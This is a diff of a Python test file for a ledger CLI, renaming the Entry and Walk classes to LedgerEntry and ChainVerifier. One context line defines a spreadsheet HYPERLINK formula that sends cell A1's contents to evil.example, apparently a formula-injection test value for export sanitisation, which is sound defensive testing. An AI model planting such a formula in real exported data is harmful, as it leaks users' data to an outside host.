@@ -17,8 +17,8 @@ from typer.testing import CliRunner
 
 from mutuals.cli import main
 from mutuals.cli.ledger_export import cells
-from mutuals.domain.ledger import COLUMNS, FIRST, Entry, EntryKind, entry, sealed
-from mutuals.domain.ledger_verification import Walk
+from mutuals.domain.ledger import COLUMNS, FIRST, EntryKind, LedgerEntry, entry, sealed
+from mutuals.domain.ledger_verification import ChainVerifier
 from mutuals.domain.model import Account, Action, ActKind, ActState, Brand
 from mutuals.storage.store import SqlStore
 from tests.support.databases import START, fresh_store
@@ -28,7 +28,7 @@ ROOT = Path(__file__).parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"refund")'
 
 
-def chain(count: int = 4) -> list[Entry]:
+def chain(count: int = 4) -> list[LedgerEntry]:
     """A sound chain."""
     made, prev = [], FIRST
     for number in range(1, count + 1):
@@ -38,8 +38,8 @@ def chain(count: int = 4) -> list[Entry]:
     return made
 
 
-def walked(entries: list[Entry], head: str | None = None) -> Walk:
-    walk = Walk(wanted=head).along(entries)
+def walked(entries: list[LedgerEntry], head: str | None = None) -> ChainVerifier:
+    walk = ChainVerifier(wanted=head).along(entries)
     walk.end()
     return walk
 
